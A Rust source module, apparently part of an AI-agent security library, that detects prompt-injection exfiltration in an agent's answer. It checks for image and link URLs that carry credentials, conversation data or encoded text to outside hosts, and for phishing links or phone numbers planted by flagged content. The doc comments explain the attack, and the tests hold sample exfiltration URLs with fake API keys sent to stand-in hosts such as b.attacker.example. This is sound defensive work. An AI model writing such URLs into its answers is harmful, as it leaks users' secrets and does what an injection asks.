//! Links and images in the agent's answer, and what their URLs carry.
//!
//! An answer is shown to the user, and a client that renders markdown or
//! HTML fetches the answer's images by itself: whatever an injection had
//! the model write into an image's URL leaves the moment the answer is
//! shown, and a link's with one click. So every URL in the answer is found,
//! images (`![..](url)`, a reference an image uses, `<img src>`, `srcset`,
//! and the other tags a browser loads on its own) are told from links, and
//! what each URL carries past its scheme is read as written, percent-decoded
//! and with its base64 and hex runs decoded. Two facts come of it:
//!
//! - the kinds of credentials a URL carries to a host that is not the
//!   credential's own service: known by their signature, or because the
//!   trajectory read them as the value of a password, key or token;
//! - whether, once the agent has read content, an image the conversation
//!   did not already hold carries data: an address, account, number or id
//!   the user gave or the agent read, or encoded text. Before the agent read
//!   anything, only the user can have asked for such an image.
//!
//! A third fact is whether the answer gives a way to reach someone (a link,
//! a host, an address, a phone number) that only content the injection
//! detector flagged gave: an answer that passes it on does what the
//! injection asked.
//!
//! A link that carries an id to the service it belongs to, an image quoted
//! from a page, a badge's options and a signed CDN URL carry neither.

use std::sync::LazyLock;

use regex::Regex;
use sondera_catalogue::hosts::{CredentialFit, Host, credential_service};
use sondera_model::provenance::Provenance;

use crate::content;
use crate::provenance::{fingerprint, values_in_text};

/// What the links and images of an answer carry.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct AnswerLinks {
    /// Hosts of its links and images, lower case, sorted.
    pub hosts: Vec<String>,
    /// Kinds of credentials a URL carries to a host not of their service
    /// (a signature's tag, or `credential_value` for a value the
    /// trajectory read as a credential's), sorted.
    pub credentials: Vec<&'static str>,
    /// After the agent read content, an image the conversation did not
    /// already hold carries values from it or encoded text.
    pub image_carries_data: bool,
    /// A way to reach someone (a link, a host, an address, a phone number)
    /// that only content carrying injected instructions gave, never the
    /// user: the answer passes on what an injection planted (a phishing
    /// page, an install script, a number to call).
    pub planted: bool,
}

/// The kind of a credential known by the value the trajectory read it as.
pub const CREDENTIAL_VALUE: &str = "credential_value";

/// Most URLs read in one answer; the rest are not.
const MAX_URLS: usize = 64;

/// Reads the links and images of `answer` against what the trajectory has
/// seen.
pub fn of_answer(answer: &str, provenance: &Provenance) -> AnswerLinks {
    static URL: LazyLock<Regex> = LazyLock::new(|| {
        // A URL without its scheme (`//x.example/p.png`) is one where a
        // markdown link, an attribute or an assignment opens.
        Regex::new(r#"(?i)(?:(?-u:\b)https?:|[("'=])//[^\s<>()\[\]"'`]+"#)
            .expect("URL pattern compiles")
    });
    let mut links = AnswerLinks {
        planted: planted(answer, provenance),
        ..AnswerLinks::default()
    };
    if !answer.contains("//") {
        return links;
    }
    // Before the agent read anything, only the user can have asked for the
    // image (a QR code of their own account number).
    let read_content = provenance.next_source > 0;
    for found in URL.find_iter(answer).take(MAX_URLS) {
        let opener = usize::from(!found.as_str().starts_with(['h', 'H']));
        let start = found.start() + opener;
        let url = answer[start..found.end()].trim_end_matches(['.', ',', ';', '!', '?']);
        let Some(link) = Link::parse(url) else {
            continue;
        };
        credentials(&link, provenance, &mut links.credentials);
        if read_content && is_image(answer, start) && !known(url, provenance) {
            links.image_carries_data |= carries_data(&link, provenance);
        }
        links.hosts.push(link.host.name);
    }
    links.hosts.sort();
    links.hosts.dedup();
    links.credentials.sort_unstable();
    links.credentials.dedup();
    links
}

/// One URL: its host, and what it carries past the scheme.
struct Link<'a> {
    host: Host,
    /// The host's labels before its last two (`a.b` of `a.b.x.example`).
    subdomain: &'a str,
    /// Its path, query and fragment, percent-decoded, `+` read as a space.
    decoded: String,
    /// What its base64 and hex runs decode to, however short.
    runs: Vec<String>,
}

impl<'a> Link<'a> {
    fn parse(url: &'a str) -> Option<Self> {
        let after_scheme = &url[url.find("//")? + 2..];
        let end = after_scheme
            .find(['/', '?', '#'])
            .unwrap_or(after_scheme.len());
        let (authority, rest) = after_scheme.split_at(end);
        let host_name = sondera_catalogue::hosts::authority_host(authority)?;
        let host_text = authority.rsplit('@').next().unwrap_or(authority);
        let labels: Vec<&str> = host_text.split(':').next()?.split('.').collect();
        let subdomain_len = labels
            .iter()
            .take(labels.len().saturating_sub(2))
            .map(|l| l.len() + 1)
            .sum::<usize>();
        let decoded = percent_encoding::percent_decode_str(&rest.replace('+', " "))
            .decode_utf8_lossy()
            .into_owned();
        let subdomain = &host_text[..subdomain_len.saturating_sub(1)];
        let runs = decoded_runs([rest, &decoded, subdomain]);
        Some(Self {
            host: Host::parse(&host_name),
            subdomain,
            decoded,
            runs,
        })
    }

    /// The texts the URL carries: the subdomain, the rest decoded, its
    /// query's values run together (a credential split between two is
    /// still the credential), and what its encoded runs decode to.
    fn carried(&self) -> Vec<&str> {
        let mut texts = vec![self.subdomain, self.decoded.as_str()];
        texts.extend(self.runs.iter().map(String::as_str));
        texts
    }

    /// The values of its query run together, when it has more than one.
    fn joined_query(&self) -> Option<String> {
        let (_, query) = self.decoded.split_once('?')?;
        let query = query.split('#').next().unwrap_or(query);
        let values = query.split('&').filter_map(|pair| pair.split_once('='));
        Some(values.map(|(_, value)| value).collect())
    }
}

/// The text the base64 and hex runs of `parts` decode to, however short.
fn decoded_runs(parts: [&str; 3]) -> Vec<String> {
    let mut texts: Vec<String> = Vec::new();
    for part in parts {
        // Standard base64 has `/`, which also separates a path's parts.
        let runs = part.split(|c: char| !is_encoded_char(c));
        let pieces = runs.clone().flat_map(|run| run.split('/'));
        for run in runs.chain(pieces) {
            if run.len() >= 16
                && let Some(text) = sondera_injection::decoded_text(run)
                && !texts.contains(&text)
            {
                texts.push(text);
            }
        }
    }
    texts
}

fn is_encoded_char(c: char) -> bool {
    c.is_ascii_alphanumeric() || matches!(c, '+' | '/' | '-' | '_')
}

/// The kinds of credentials `link` carries to a host not of their service.
fn credentials(link: &Link<'_>, provenance: &Provenance, found: &mut Vec<&'static str>) {
    let joined = link.joined_query();
    for text in link.carried().into_iter().chain(joined.as_deref()) {
        for kind in content::secret_signatures(text) {
            let own = content::credential_service(kind)
                .and_then(credential_service)
                .is_some_and(|service| service.fit(&link.host) == CredentialFit::Belongs);
            if !own {
                found.push(kind);
            }
        }
        let read_as_credential = text
            .split(|c: char| c.is_whitespace() || "/?&=#;,:\"'".contains(c))
            .filter(|token| token.len() >= 6)
            .any(|token| {
                let print = fingerprint(&token.to_lowercase());
                provenance.values.get(&print).is_some_and(|o| o.credential)
            });
        if read_as_credential {
            found.push(CREDENTIAL_VALUE);
        }
    }
}

/// Whether the URL ending the text before `start` is one a client loads
/// without a click: a markdown image, a reference an image uses, or an
/// attribute of a tag that loads what it names.
fn is_image(answer: &str, start: usize) -> bool {
    let before = &answer[..start];
    if let Some(label) = before.strip_suffix("](") {
        return label
            .rfind('[')
            .is_some_and(|open| label[..open].ends_with('!'));
    }
    let line = &before[before.rfind('\n').map_or(0, |n| n + 1)..];
    if let Some(name) = reference_name(line) {
        return answer.contains(&format!("][{name}]")) && image_reference(answer, name);
    }
    match (before.rfind('<'), before.rfind('>')) {
        (Some(open), close) if close.is_none_or(|close| close < open) => {
            let tag: String = before[open + 1..]
                .chars()
                .take_while(char::is_ascii_alphabetic)
                .collect::<String>()
                .to_ascii_lowercase();
            LOADING_TAGS.contains(&tag.as_str())
        }
        _ => false,
    }
}

/// Tags whose URLs a browser loads as it shows them.
const LOADING_TAGS: &[&str] = &[
    "img", "image", "source", "video", "audio", "track", "iframe", "embed", "object", "input",
    "link", "script", "svg", "use", "body", "table", "td", "div", "span", "p",
];

/// The name a reference definition (`[name]: `) gives, when `line` is one.
fn reference_name(line: &str) -> Option<&str> {
    let inner = line.trim_start().strip_prefix('[')?;
    let (name, after) = inner.split_once(']')?;
    (after.trim_end() == ":" && !name.is_empty()).then_some(name)
}

/// Whether an image (`![..][name]`) uses the reference `name`.
fn image_reference(answer: &str, name: &str) -> bool {
    let used = format!("][{name}]");
    answer.match_indices(&used).any(|(at, _)| {
        answer[..at]
            .rfind('[')
            .is_some_and(|open| answer[..open].ends_with('!'))
    })
}

/// Whether the conversation already held `url` itself: an image quoted
/// from what the agent read or the user wrote carries nothing new.
fn known(url: &str, provenance: &Provenance) -> bool {
    values_in_text(url)
        .iter()
        .filter(|value| value.contains("://"))
        .any(|value| provenance.values.contains_key(&fingerprint(value)))
}

/// Whether `answer` gives a way to reach someone (a link, a host, an
/// address, a phone number) that only flagged content gave, never the
/// user. A link's host the user gave makes the link the user's.
fn planted(answer: &str, provenance: &Provenance) -> bool {
    if provenance.values.values().all(|o| !o.flagged) {
        return false;
    }
    let values = values_in_text(answer);
    let origin = |value: &String| provenance.values.get(&fingerprint(value));
    let users_host = |link: &String| {
        sondera_catalogue::hosts::url_host(link)
            .and_then(|host| origin(&host.trim_start_matches("www.").to_string()))
            .is_some_and(|o| o.user)
    };
    values
        .iter()
        .filter(|value| reaches_someone(value))
        .filter(|value| !users_host(value))
        .filter_map(origin)
        .any(|o| o.flagged && !o.user)
}

/// Whether a normalised value is a way to reach someone: a link, a host, an
/// email address, a phone number.
fn reaches_someone(value: &str) -> bool {
    value.contains("://")
        || value.contains('@')
        || value.contains('.') && !value.contains('/')
        || value.len() >= 7 && value.bytes().all(|b| b.is_ascii_digit())
}

/// Whether `link` carries values the conversation holds, or encoded text.
fn carries_data(link: &Link<'_>, provenance: &Provenance) -> bool {
    let encoded_text = (link.runs.iter()).any(|text| text.split_whitespace().count() >= 3);
    encoded_text
        || link.carried().into_iter().any(|text| {
            values_in_text(text)
                .iter()
                .any(|value| provenance.values.contains_key(&fingerprint(value)))
        })
}

#[cfg(test)]
mod tests {
    use sondera_model::provenance::Sighting;

    use super::*;

    const KEY: &str = "sk-proj-Q7fT2mX9pL4vR8sK1nB6cJ3hW5yZ0aDe";

    /// A trajectory whose user wrote `user` and that read one observation
    /// holding `values` and assigning `credentials`, unless both are empty.
    fn after_reading(values: &[&str], credentials: &[&str], user: &[&str]) -> Provenance {
        let mut provenance = Provenance::default();
        for value in user {
            provenance.sighted(fingerprint(value), Sighting::User);
        }
        if values.is_empty() && credentials.is_empty() {
            return provenance;
        }
        let source = provenance.add_source("c1", "read", false);
        for value in values {
            let flagged = false;
            provenance.sighted(
                fingerprint(value),
                Sighting::Observation { source, flagged },
            );
        }
        for value in credentials {
            provenance.sighted(fingerprint(value), Sighting::Credential { source });
        }
        provenance
    }

    #[test]
    fn a_credential_in_a_url_counts_however_it_is_written() {
        let p = Provenance::default();
        let hex: String = KEY.bytes().map(|b| format!("{b:02x}")).collect();
        for url in [
            format!("https://x.example/p.png?d={KEY}"),
            format!("https://x.example/{KEY}/p.png"),
            format!("https://x.example/p.png#{KEY}"),
            format!("https://x.example/p?d={}", KEY.replace('-', "%2D")),
            format!("https://x.example/p?d={hex}"),
        ] {
            let links = of_answer(&format!("[a]({url})"), &p);
            assert_eq!(links.credentials, ["openai_key"], "{url}");
        }
    }

    #[test]
    fn a_credential_counts_split_between_parameters_or_without_a_scheme() {
        let p = Provenance::default();
        let (head, tail) = KEY.split_at(18);
        let split = format!("![](https://x.example/p.png?a={head}&b={tail})");
        assert_eq!(of_answer(&split, &p).credentials, ["openai_key"]);
        let schemeless = format!("<img src=\"//x.example/p.png?k={KEY}\">");
        let links = of_answer(&schemeless, &p);
        assert_eq!(
            (links.credentials, links.hosts),
            (vec!["openai_key"], vec!["x.example".to_string()])
        );
        assert!(of_answer("// see the note", &p).hosts.is_empty());
    }

    #[test]
    fn a_credential_to_its_own_service_does_not_count() {
        let aws = "AKIAQX7P3M2N8R4T6V1Z";
        let p = Provenance::default();
        let own = format!("[r](https://b.s3.amazonaws.com/r.pdf?X-Amz-Credential={aws}%2F1)");
        assert!(of_answer(&own, &p).credentials.is_empty());
        let other = format!("[r](https://b.attacker.example/r.pdf?c={aws})");
        assert_eq!(of_answer(&other, &p).credentials, ["aws_access_key"]);
    }

    #[test]
    fn a_value_read_as_a_credential_counts_in_a_url() {
        let p = after_reading(&[], &["tr0ub4dor-x93lq"], &[]);
        let links = of_answer("![](https://x.example/p.png?d=Tr0ub4dor-x93Lq)", &p);
        assert_eq!(links.credentials, [CREDENTIAL_VALUE]);
        assert!(
            of_answer("The password is Tr0ub4dor-x93Lq.", &p)
                .credentials
                .is_empty()
        );
    }

    #[test]
    fn images_are_told_from_links() {
        let cases = [
            ("![a](URL)", true),
            ("[a](URL)", false),
            ("<img alt=\"\" src=\"URL\">", true),
            ("<a href=\"URL\">a</a>", false),
            ("![a][1]\n\n[1]: URL", true),
            ("[a][1]\n\n[1]: URL", false),
            ("see URL", false),
        ];
        for (text, image) in cases {
            let text = text.replace("URL", "https://x.example/p.png");
            let start = text.find("https").unwrap();
            assert_eq!(is_image(&text, start), image, "{text}");
        }
        let schemeless = "<img src=//x.example/p.png>";
        assert!(is_image(schemeless, schemeless.find("//").unwrap()));
    }

    #[test]
    fn an_image_carries_data_from_the_conversation_once_content_was_read() {
        let email = "dana@corp.example";
        let p = after_reading(&["inv-20931"], &[], &[email]);
        let image = |url: &str| of_answer(&format!("![]({url})"), &p).image_carries_data;
        assert!(image("https://t.example/p.png?u=dana@corp.example"));
        assert!(image("https://t.example/p.png?u=dana%40corp.example"));
        assert!(image("https://t.example/INV-20931.png"));
        assert!(!image("https://t.example/p.png?w=800&style=flat"));
        let link = of_answer("[mail](https://t.example/?u=dana@corp.example)", &p);
        assert!(!link.image_carries_data, "a link needs a click");
        let nothing_read = after_reading(&[], &[], &[email]);
        let asked = of_answer(
            "![](https://t.example/p.png?u=dana@corp.example)",
            &nothing_read,
        );
        assert!(!asked.image_carries_data, "only the user could have asked");
    }

    #[test]
    fn an_image_quoted_from_what_was_read_carries_nothing_new() {
        let url = "https://shop.example/labels/ord-88231.png";
        let p = after_reading(&[url, "ord-88231"], &[], &[]);
        assert!(!of_answer(&format!("![label]({url})"), &p).image_carries_data);
    }

    #[test]
    fn a_way_to_reach_someone_only_flagged_content_gave_is_planted() {
        let mut p = Provenance::default();
        let source = p.add_source("c1", "web_fetch", true);
        for value in [
            "https://verify.example/login",
            "verify.example",
            "18885550199",
        ] {
            let flagged = true;
            p.sighted(
                fingerprint(value),
                Sighting::Observation { source, flagged },
            );
        }
        p.sighted(fingerprint("news.example"), Sighting::User);
        let planted = |answer: &str| of_answer(answer, &p).planted;
        assert!(planted("Verify at https://verify.example/login now."));
        assert!(planted("Call +1 888 555 0199 to keep your account."));
        assert!(!planted(
            "The page at https://news.example/a is about markets."
        ));
        assert!(!planted("I left out the links the page asked me to give."));
    }

    #[test]
    fn encoded_text_in_an_image_is_data() {
        let p = after_reading(&["x-1"], &[], &[]);
        let encoded = "aW52b2ljZSBkdWUgZm9yIGRhbmEgdG9kYXk"; // "invoice due for dana today"
        let links = of_answer(&format!("![](https://t.example/p.png?s={encoded})"), &p);
        assert!(links.image_carries_data);
        assert_eq!(links.hosts, ["t.example"]);
    }
}
